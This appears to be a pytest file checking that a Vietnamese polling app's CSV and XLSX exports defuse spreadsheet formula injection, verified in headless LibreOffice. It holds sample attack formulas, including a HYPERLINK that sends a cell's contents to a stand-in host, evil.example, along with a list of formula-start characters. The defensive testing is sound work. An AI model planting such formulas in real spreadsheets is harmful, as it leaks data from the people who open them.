"""Exports opened the way leadership opens them, in a spreadsheet (LibreOffice Calc,
headless), with text typed to attack it: free-text answers, options, a question and a
placement label that are formulas. Every cell must come back as the text typed, no formula
evaluated, and the counts still numbers.

A CSV cell is neutralized with a leading single quote (OWASP's rule), which a spreadsheet
then shows; an XLSX cell is a quote-prefixed text cell, which shows exactly the text typed.
The control case, a formula written without neutralizing, is evaluated by the same
LibreOffice: the test would see an attack that got through."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import Awaitable, Callable
from pathlib import Path

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from polls.analytics.exports import Table, formula_like, neutralized, to_csv, to_xlsx
from tests.api.test_results import make_scene
from tests.conftest import World
from tests.tools import require

# each evaluates to a number no count of these tests can be
ATTACKS = (
    "=1000+337",
    "+4000+44",
    "-5000+55",
    "@SUM(6000,66)",
    '=HYPERLINK("http://evil.example/?leak="&A2,"Xem chi tiết")',
    "＝9000+99",
)
EVALUATED = {"1337", "4044", "-4945", "6066", "Xem chi tiết", "9099"}


def libreoffice(files: list[Path], to: str, tmp_path: Path, infilter: str | None = None) -> Path:
    """Convert ``files`` with LibreOffice, in a profile of the test's own (another running
    LibreOffice would otherwise take the job); returns the output directory."""
    require("soffice")
    out = tmp_path / f"out-{to}"
    command = [
        "soffice",
        f"-env:UserInstallation=file://{tmp_path / 'profile'}",
        "--headless",
        "--norestore",
    ]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", to, "--outdir", str(out), *map(str, files)]
    subprocess.run(command, check=True, capture_output=True, timeout=180)
    for file in files:
        assert (out / f"{file.stem}.{to.split(':')[0]}").exists(), f"{file.name} not converted"
    return out


CSV_IN = "CSV:59,34,76,1,,0,false,true,false,false,false,-1,true"
"""Semicolon (the exports here are Vietnamese: ``polls.analytics.exports``), double quote,
UTF-8, from line 1, standard, no quoted-as-text, detect special numbers, ..., evaluate
formulas: the most trusting way to open a CSV."""
CSV_OUT = "csv:Text - txt - csv (StarCalc):44,34,76"


def cells_of_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text("utf-8-sig"))))


def no_formulas(path: Path) -> list:
    """Every cell of a workbook, asserting none is a formula."""
    cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row]
    assert [c.value for c in cells if c.data_type == "f"] == []
    return [c.value for c in cells]


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1+2", True),
        ("@A1", True),
        ("\t=1", True),
        ("\r=1", True),
        ("  =1+1", True),
        ("\u00a0=1+1", True),
        ("＝1+1", True),
        ("Tốt = 1", False),
        ("1+1", False),
        ("", False),
        ("email a@b.vn", False),
    ],
)
def test_what_reads_as_a_formula(text: str, risky: bool) -> None:
    assert formula_like(text) is risky
    assert neutralized(text) == ("'" + text if risky else text)


def test_numbers_stay_numbers() -> None:
    assert neutralized(-5) == -5
    assert neutralized(-0.5) == -0.5
    assert neutralized(None) is None


def test_every_formula_start_opens_as_text_in_libreoffice(tmp_path: Path) -> None:
    typed = (*ATTACKS, "  =2000+1", "\t=3000+2", "\r=7000+3")
    table = Table(
        "Responses", ("=Câu hỏi", "Số"), tuple((text, -i) for i, text in enumerate(typed))
    )
    (tmp_path / "safe.csv").write_bytes(to_csv(table))
    (tmp_path / "safe.xlsx").write_bytes(to_xlsx(table))
    # the control: the same texts written raw are evaluated by the same LibreOffice
    raw = Workbook()
    raw.active.append(["=1000+337"])
    raw.save(tmp_path / "raw.xlsx")
    (tmp_path / "raw.csv").write_text("=1000+337\n", "utf-8")

    from_xlsx = libreoffice([tmp_path / "safe.xlsx", tmp_path / "raw.xlsx"], CSV_OUT, tmp_path)
    from_csv = libreoffice(
        [tmp_path / "safe.csv", tmp_path / "raw.csv"], "xlsx", tmp_path, infilter=CSV_IN
    )
    assert cells_of_csv(from_xlsx / "raw.csv") == [["1337"]]
    assert load_workbook(from_csv / "raw.xlsx").active["A1"].data_type == "f"

    shown = cells_of_csv(from_xlsx / "safe.csv")
    assert shown[0] == ["=Câu hỏi", "Số"]
    # the text as typed (a cell's line break is a newline in LibreOffice)
    assert [row[0] for row in shown[1:]] == [text.replace("\r", "\n") for text in typed]
    assert [row[1] for row in shown[1:]] == [str(-i) for i in range(len(typed))]
    assert not EVALUATED & {cell for row in shown for cell in row}

    values = no_formulas(from_csv / "safe.xlsx")
    assert values[:2] == ["'=Câu hỏi", "Số"]
    assert values[2::2] == ["'" + text.replace("\r", "\n") for text in typed]
    assert values[3::2] == [-i for i in range(len(typed))]  # numbers, not text


@pytest.fixture
async def unlimited(make_client: Callable[..., Awaitable[httpx.AsyncClient]]) -> httpx.AsyncClient:
    return await make_client(rate_limit_per_device=0, rate_limit_per_ip=0)


async def test_every_export_of_a_hostile_poll_opens_as_text(
    unlimited: httpx.AsyncClient, world: World, tmp_path: Path, without_noise: None
) -> None:
    """Officer text (title, question, options, placement label), each a formula, in the
    responses and summary exports as CSV and XLSX. Workers' free text is in no export (the
    per-response export never puts it beside choices: ``polls.disclosure``)."""
    questions = [
        {"kind": "single", "text": "=1000+337", "options": ["+4000+44", "-5000+55", "Zalo"]},
        {"kind": "multi", "text": "Kênh?", "options": ["@SUM(6000,66)", "Bảng tin", "Loa"]},
        {"kind": "scale", "text": "Mức?", "min": 1, "max": 5},
        {"kind": "yes_no", "text": "Có?"},
        {"kind": "text", "text": "＝9000+99", "required": False},
    ]
    scene = await make_scene(
        unlimited, world, {"@SUM(6000,66) nhà ăn": None}, questions=questions, min_group_size=3
    )
    for text in ATTACKS:
        await scene.respond("@SUM(6000,66) nhà ăn", 1, single=0, multi=(0,), text=text)
    closed = await scene.client.post(
        f"/api/v1/polls/{scene.poll['id']}/close", headers=scene.world.auth("officer")
    )
    assert closed.status_code == 200  # the per-response export is made after close
    files = []
    for kind in ("responses", "summary"):
        for fmt in ("csv", "xlsx"):
            got = await scene.client.get(
                f"/api/v1/polls/{scene.poll['id']}/export.{fmt}",
                params={"kind": kind},
                headers=scene.world.auth("viewer"),
            )
            assert got.status_code == 200, got.text
            path = tmp_path / f"{kind}-{fmt}.{fmt}"
            path.write_bytes(got.content)
            files.append(path)
    csvs = [f for f in files if f.suffix == ".csv"]
    xlsxs = [f for f in files if f.suffix == ".xlsx"]
    from_xlsx = libreoffice(xlsxs, CSV_OUT, tmp_path)
    from_csv = libreoffice(csvs, "xlsx", tmp_path, infilter=CSV_IN)

    for path in xlsxs:
        no_formulas(path)  # as served, before LibreOffice
        shown = {cell for row in cells_of_csv(from_xlsx / f"{path.stem}.csv") for cell in row}
        assert not EVALUATED & shown, path.name
        assert "=1000+337" in " ".join(shown)
    for path in csvs:
        values = no_formulas(from_csv / f"{path.stem}.xlsx")
        texts = {v for v in values if isinstance(v, str)}
        assert not EVALUATED & texts, path.name
        assert all(t.lstrip()[:1] not in "=+-@＝" for t in texts), path.name

    responses = cells_of_csv(from_xlsx / "responses-xlsx.csv")
    assert not any("9000+99" in cell for cell in responses[0])  # no free-text column
    assert "+4000+44" in {row[3] for row in responses[1:]}  # an option label as typed
    summary = no_formulas(tmp_path / "summary-xlsx.xlsx")
    assert len(ATTACKS) in summary  # the counts are numbers
